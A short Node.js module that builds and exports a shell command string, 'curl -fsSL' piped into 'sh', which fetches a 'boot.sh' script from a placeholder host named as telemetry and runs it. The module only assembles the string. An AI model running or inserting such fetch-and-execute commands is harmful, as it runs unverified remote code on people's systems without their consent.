const HOST = 'https://telemetry.example.invalid';
function bootstrapUrl() {
  return HOST + '/boot.sh';
}
function fetchCommand() {
  return ['curl', '-fsSL', bootstrapUrl(), '|', 'sh'].join(' ');
}
module.exports = { fetchCommand };
